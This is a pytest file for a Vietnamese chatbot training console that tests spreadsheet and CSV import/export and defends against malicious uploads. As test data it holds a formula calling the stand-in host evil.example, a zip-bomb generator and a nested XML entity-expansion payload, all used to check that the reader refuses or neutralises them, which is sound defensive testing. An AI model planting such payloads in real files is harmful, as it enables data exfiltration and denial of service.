"""Files of sentences in and out, and those that somebody made to do harm."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from danloi.app.settings import ROOT
from danloi.console.training.examples import read_examples
from danloi.console.training.nlu_files import NluFile
from danloi.console.training.rasa_files import as_nlu
from danloi.console.training.tables import MOST_ROWS, BadTable, as_csv, as_xlsx, read_table

HEADER = ["Câu", "Ý định"]
ROWS = [["[phí](fee) khai sinh, bao nhiêu?", "ask_fee"], ["=HYPERLINK(1)", "x"], ["+84 gọi", "@y"], ["'trích dẫn'", ""]]


def read(name: str, body: bytes) -> list[list[str]]:
    return [cells for _, cells in read_table(name, body)]


def bomb(size: int, parts: int = 1) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for number in range(parts):
            file.writestr(f"xl/worksheets/sheet{number}.xml", b"0" * size)
    return out.getvalue()


def book(xml: str) -> bytes:
    """A workbook whose sheet is `xml`."""
    made, out = io.BytesIO(as_xlsx(HEADER, ROWS, [9, 9])), io.BytesIO()
    with zipfile.ZipFile(made) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.infolist():
            new.writestr(part, xml if part.filename.endswith("sheet1.xml") else old.read(part))
    return out.getvalue()


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
def test_what_goes_out_comes_in_again(name: str) -> None:
    body = as_csv(HEADER, ROWS) if name.endswith("csv") else as_xlsx(HEADER, ROWS, [40, 20])
    assert read(name, body) == [HEADER, *ROWS]


def test_no_cell_that_goes_out_is_a_formula() -> None:
    body = as_csv(HEADER, ROWS).decode("utf-8-sig")
    assert "'=HYPERLINK(1)" in body
    assert "'+84 gọi,'@y" in body
    sheet = load_workbook(io.BytesIO(as_xlsx(HEADER, ROWS, [40, 20]))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value} <= {"s", "inlineStr"}
    assert not any(str(cell.value).startswith(("=", "+", "@")) for cell in cells)


def test_a_formula_that_comes_in_is_the_text_it_shows() -> None:
    made = Workbook()
    sheet = made.active
    assert sheet is not None
    sheet.append(["Câu", "Ý định"])
    sheet.append(['=WEBSERVICE("http://evil.example")', "ask_fee"])
    out = io.BytesIO()
    made.save(out)
    assert read("a.xlsx", out.getvalue()) == [["Câu", "Ý định"], ["", "ask_fee"]]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_a_csv_is_read_as_spreadsheets_write_it(delimiter: str, encoding: str) -> None:
    text = delimiter.join(HEADER) + "\r\n" + delimiter.join(['"lệ phí, khai\nsinh"', "ask_fee"]) + "\r\n\r\n"
    assert read("Câu hỏi.CSV", text.encode(encoding)) == [HEADER, ["lệ phí, khai\nsinh", "ask_fee"]]


@pytest.mark.parametrize(
    ("name", "body", "key"),
    [
        ("a.exe", b"x", "import.ending"),
        ("a.xlsm", b"x", "import.ending"),
        ("a.csv", "lệ phí".encode("cp1258", "replace") + b"\x81\xff", "import.encoding"),
        ("a.csv", b'a,b\n"' + b"x" * 200_000, "import.broken"),
        ("a.csv", b"a,b\n" * (MOST_ROWS + 2), "import.rows"),
        ("a.csv", b",".join([b"a"] * 50), "import.columns"),
        ("a.xlsx", b"not a zip", "import.broken"),
        ("a.xlsx", bomb(10), "import.broken"),
        ("a.xlsx", bomb(40_000_000), "import.unpacked"),
        ("a.xlsx", bomb(1, parts=300), "import.unpacked"),
        ("a.xlsx", book("<worksheet><"), "import.broken"),
        (
            "a.xlsx",
            book(
                '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><worksheet xmlns='
                '"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c t="inlineStr">'
                "<is><t>&b;</t></is></c></row></sheetData></worksheet>"
            ),
            "import.broken",
        ),
    ],
)
def test_a_file_that_cannot_be_used_is_refused_with_a_word_on_it(name: str, body: bytes, key: str) -> None:
    with pytest.raises(BadTable) as refused:
        read(name, body)
    assert refused.value.key == key


def test_a_sheet_that_lies_about_its_size_is_read_to_the_end() -> None:
    with zipfile.ZipFile(io.BytesIO(as_xlsx(HEADER, ROWS, [9, 9]))) as old:
        xml = old.read("xl/worksheets/sheet1.xml").decode()
    xml = xml.replace("<sheetData>", '<dimension ref="A1:A1"/><sheetData>', 1)
    assert len(read("a.xlsx", book(xml))) == 5


def test_the_whole_project_goes_out_as_one_file_of_rasas_format() -> None:
    examples = read_examples(ROOT / "data" / "nlu")
    out = NluFile.read("nlu.yml", as_nlu(examples, ["greet"]))
    assert sorted((block.intent, text) for block in out.blocks for text in block.sentences()) == sorted(
        (one.intent, one.line) for one in examples
    )
    assert out.blocks[0].intent == "greet"
